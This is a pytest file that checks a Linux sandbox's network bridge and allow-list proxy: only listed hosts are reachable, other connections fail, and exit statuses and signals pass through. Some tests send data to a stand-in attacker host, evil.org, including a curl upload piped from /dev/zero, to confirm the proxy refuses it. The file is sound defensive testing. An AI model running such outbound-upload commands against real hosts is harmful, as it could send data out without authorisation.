"""The bridge: a command's way to the proxy, and the command itself, which must not notice it otherwise."""

from __future__ import annotations

import contextlib
import os
import platform
import shutil
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from bwrapkit import in_bwrap, needs_bwrap, python, started
from neuraphage.sandbox.proxy import Proxy
from neuraphage.sandbox.proxy_environment import PORT, bridged, proxy_environment
from neuraphage.sandbox.seccomp import compiled_filter
from patience import PATIENCE_S
from proxykit import Told, web_server

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="networks of one's own are Linux's")
needs_curl = pytest.mark.skipif(shutil.which("curl") is None, reason="curl is not installed")


@pytest.fixture
def port() -> Iterator[int]:
    """Of a web server on the loopback of the machine, which a sandbox with a network of its own does not have."""
    with web_server() as number:
        yield number


@pytest.fixture
def path(tmp_path: Path) -> Path:
    """Of the proxy's socket."""
    return tmp_path / "p" / "s"


@pytest.fixture
def told(path: Path, port: int) -> Iterator[Told]:
    """What a proxy to that web server reports."""
    told = Told()
    with Proxy(path, [f"127.0.0.1:{port}"], told):
        yield told


def inside(argv: list[str], path: Path, port: int) -> subprocess.CompletedProcess[str]:
    """Run a command in a network of its own, with the bridge and the filter of system calls, as the sandbox does."""
    return in_bwrap(
        bridged(argv, str(path)),
        program=compiled_filter(platform.machine()),
        env=proxy_environment([f"127.0.0.1:{port}"]),
    )


FETCH = """
import sys, urllib.request
print(urllib.request.urlopen(sys.argv[1], data=b"abc").read().decode())
"""


@needs_bwrap
@needs_curl
def test_curl_reaches_a_listed_host(path: Path, port: int, told: Told) -> None:
    """By a plain request, and by a tunnel as https takes it."""
    url = f"http://127.0.0.1:{port}/x"
    plain = inside(["curl", "-sS", url], path, port)
    tunnel = inside(["curl", "-sS", "--proxytunnel", url], path, port)
    wanted = f"GET /x host=127.0.0.1:{port} body="
    assert (plain.stdout, tunnel.stdout) == (wanted, wanted), (plain.stderr, tunnel.stderr)
    assert told.rows == [("127.0.0.1", port, True)] * 2


@needs_bwrap
def test_python_reaches_a_listed_host(path: Path, port: int, told: Told) -> None:
    """By its own client, with a body."""
    done = inside([*python(FETCH), f"http://127.0.0.1:{port}/"], path, port)
    assert done.stdout == f"POST / host=127.0.0.1:{port} body=abc\n", done.stderr


@needs_bwrap
@needs_curl
def test_other_hosts_are_refused_with_the_name_of_the_setting(path: Path, port: int, told: Told) -> None:
    """In what a tunnel's user sees, and as the text of a plain answer, also when a large body is still on its way."""
    tunnel = inside([*python(FETCH), "https://evil.org/"], path, port)
    assert "evil.org:443 may not be reached from a command; a person allows it by allow_hosts" in tunnel.stderr
    send = "head -c 5000000 /dev/zero | curl -sS -H Expect: --data-binary @- http://evil.org/"
    plain = inside(["sh", "-c", send], path, port)
    assert plain.stdout.startswith("neuraphage: evil.org:80 may not be reached"), plain.stderr
    assert told.rows == [("evil.org", 443, False), ("evil.org", 80, False)]


@needs_bwrap
@needs_curl
def test_there_is_no_way_past_the_proxy(path: Path, port: int, told: Told) -> None:
    """The machine's loopback is another one, and no other network is there."""
    direct = inside(["curl", "-sS", "--noproxy", "*", f"http://127.0.0.1:{port}/"], path, port)
    assert direct.returncode == 7, direct.stderr
    outside = inside(python("import socket; socket.create_connection(('192.0.2.1', 80))"), path, port)
    assert "Network is unreachable" in outside.stderr
    assert told.rows == []


OWN_SERVER = """
import http.server, threading, urllib.request
server = http.server.HTTPServer(("127.0.0.1", 0), http.server.SimpleHTTPRequestHandler)
threading.Thread(target=server.serve_forever, daemon=True).start()
print(urllib.request.urlopen(f"http://localhost:{server.server_port}/").status)
"""


@needs_bwrap
def test_what_a_command_serves_itself_it_reaches_directly(path: Path, port: int, told: Told) -> None:
    """Else the tests of every web project would fail in the sandbox."""
    done = inside(python(OWN_SERVER), path, port)
    assert done.stdout == "200\n", done.stderr
    assert told.rows == []


@needs_bwrap
def test_a_proxy_that_is_gone_is_told(path: Path, port: int) -> None:
    """The worker has ended; the command goes on without a network."""
    done = inside([*python(FETCH), "https://evil.org/"], path, port)
    assert "502 neuraphage: the proxy to the allowed hosts is gone" in done.stderr


SEND_FIRST = """
import socket, sys
with socket.create_connection(("127.0.0.1", int(sys.argv[1]))) as client:
    client.sendall(bytes(20_000_000))
    client.shutdown(socket.SHUT_WR)
    print(client.makefile().read(), end="")
"""


def test_an_early_answer_is_not_lost(path: Path) -> None:
    """A proxy that refuses what it has not read yet closes; who is still sending gets the answer all the same."""
    number = free_port()
    path.parent.mkdir()
    with socket.socket(socket.AF_UNIX) as proxy:
        proxy.bind(str(path))
        proxy.listen()
        proxy.settimeout(PATIENCE_S)
        argv = [*bridged(python(SEND_FIRST), str(path), number), str(number)]
        with started(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE) as process:
            taken, _ = proxy.accept()
            taken.sendall(b"refused\n")
            taken.close()
            assert process.communicate(timeout=PATIENCE_S) == (b"refused\n", b"")


@needs_bwrap
@pytest.mark.parametrize(("script", "status"), [("exit 7", 7), ("kill -TERM $$", 128 + signal.SIGTERM), ("true", 0)])
def test_the_status_is_the_commands_own(path: Path, port: int, script: str, status: int) -> None:
    """As bubblewrap passes it on."""
    assert inside(["sh", "-c", script], path, port).returncode == status


def free_port() -> int:
    with socket.create_server(("127.0.0.1", 0)) as server:
        return int(server.getsockname()[1])


def takes_connections(port: int) -> bool:
    try:
        socket.create_connection(("127.0.0.1", port)).close()
    except OSError:
        return False
    return True


def until(condition: Callable[[], bool], wanted: bool) -> None:
    """Wait until a condition is as wanted."""
    deadline_s = time.monotonic() + PATIENCE_S
    while condition() is not wanted:
        assert time.monotonic() < deadline_s
        time.sleep(0.01)


OLDER_KERNEL = """
import os, runpy, sys
del os.pidfd_open
sys.argv[:] = sys.argv[1:]
runpy.run_path(sys.argv[0], run_name="__main__")
"""


@pytest.mark.parametrize("tells", [True, False], ids=["kernel tells", "kernel is asked"])
@pytest.mark.parametrize("signum", [signal.SIGTERM, signal.SIGKILL])
def test_signals_are_the_commands_own(path: Path, signum: signal.Signals, tells: bool) -> None:
    """The process that was started is the command; and the bridge goes when the command does, by whatever way."""
    number = free_port()
    argv = bridged(["sleep", "1000"], str(path), number)
    with started(argv if tells else [*argv[:3], "-c", OLDER_KERNEL, *argv[3:]]) as process:
        until(lambda: takes_connections(number), True)
        until(lambda: Path(f"/proc/{process.pid}/comm").read_text(encoding="utf-8") == "sleep\n", True)
        process.send_signal(signum)
        assert process.wait(PATIENCE_S) == -signum
    until(lambda: takes_connections(number), False)


def bridge_of(port: int) -> int:
    """The process that carries the connections to a port; 0 when there is none yet."""
    for folder in Path("/proc").glob("[0-9]*"):
        with contextlib.suppress(OSError):
            if f"\0{port}\0".encode() in (folder / "cmdline").read_bytes():
                return int(folder.name)
    return 0


def is_apart(bridge: int) -> bool:
    """Whether a process has a session of its own, and of the files that it was started with nothing."""
    try:
        files = [str(file.readlink()) for file in Path(f"/proc/{bridge}/fd").iterdir()]
        return os.getsid(bridge) == bridge and files.count("/dev/null") == 3 and "pipe:" not in "".join(files)
    except OSError:
        return False


def test_the_bridge_holds_no_file_and_no_session_of_the_command(path: Path) -> None:
    """Whoever reads what a command writes waits for the last one that could write; signals go to whole groups."""
    number = free_port()
    reading, writing = os.pipe()
    with started(bridged(["sleep", "1000"], str(path), number), stdout=subprocess.PIPE, pass_fds=[writing]):
        until(lambda: takes_connections(number), True)
        until(lambda: is_apart(bridge_of(number)), True)
    os.close(reading)
    os.close(writing)


def test_the_bridge_has_nothing_of_the_command(path: Path) -> None:
    """Its output ends with it though the bridge may live on for an instant; it has no child that it does not know, and
    no signal is ignored that was not before; its input is its own."""
    script = "grep SigIgn /proc/self/status; wait; ps --ppid $$ -o comm=; cat; ls -l /proc/self/fd | wc -l"
    argv = ["/bin/sh", "-c", script]  # by its path: the way in which Python starts a program depends on that
    plain = subprocess.run(argv, input="in\n", capture_output=True, text=True, timeout=PATIENCE_S, check=False)
    bridge = subprocess.run(
        bridged(argv, str(path), free_port()),
        input="in\n",
        capture_output=True,
        text=True,
        timeout=PATIENCE_S,
        check=False,
    )
    assert (bridge.stdout, bridge.stderr) == (plain.stdout, plain.stderr)
    assert "in\n" in bridge.stdout


def test_a_command_that_waits_for_all_its_children_has_none(path: Path) -> None:
    """Programs that end when their last child has would else wait for the bridge."""
    program = "import os\ntry: os.wait()\nexcept ChildProcessError: print('none')"
    done = subprocess.run(
        bridged(python(program), str(path), free_port()),
        capture_output=True,
        text=True,
        timeout=PATIENCE_S,
        check=False,
    )
    assert done.stdout == "none\n", done.stderr


def test_a_command_that_cannot_run_is_told_as_a_shell_does(path: Path, tmp_path: Path) -> None:
    """127 for one that is not there, 126 for one that may not be run, a port that is taken, arguments that are none."""
    (tmp_path / "data").touch()
    rows = {
        ("/nowhere/program",): (127, "cannot run '/nowhere/program': No such file"),
        (str(tmp_path / "data"),): (126, "Permission denied"),
    }
    for argv, (code, words) in rows.items():
        done = subprocess.run(bridged(argv, str(path), free_port()), capture_output=True, text=True, check=False)
        assert done.returncode == code
        assert words in done.stderr
    with socket.create_server(("127.0.0.1", 0)) as server:
        taken = bridged(["true"], str(path), server.getsockname()[1])
        done = subprocess.run(taken, capture_output=True, text=True, check=False)
    assert (done.returncode, "cannot listen at 127.0.0.1:" in done.stderr) == (126, True)
    done = subprocess.run(taken[:5], capture_output=True, text=True, check=False)
    assert (done.returncode, "cannot understand its arguments" in done.stderr) == (126, True)


def test_the_environment_names_the_proxy_in_both_spellings() -> None:
    """Programs differ in which they read; an address of this machine that is listed means the one outside."""
    found = proxy_environment(["pypi.org", "127.0.0.1:8000"], 99)
    for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY"):
        assert found[name] == found[name.lower()] == "http://127.0.0.1:99"
    assert found["NO_PROXY"] == found["no_proxy"] == "localhost,::1"
    assert proxy_environment([])["no_proxy"] == "localhost,127.0.0.1,::1"
    assert proxy_environment(["[0::1]:80"])["no_proxy"] == "localhost,127.0.0.1"
    assert str(PORT) in proxy_environment([])["https_proxy"]


def test_a_connection_that_is_made_at_once_is_taken(path: Path, port: int) -> None:
    """The bridge listens before the command begins."""
    number = free_port()
    program = f"import socket; socket.create_connection(('127.0.0.1', {number}))"
    done = subprocess.run(
        bridged(python(program), str(path), number), capture_output=True, timeout=PATIENCE_S, check=False
    )
    assert (done.returncode, done.stderr) == (0, b"")
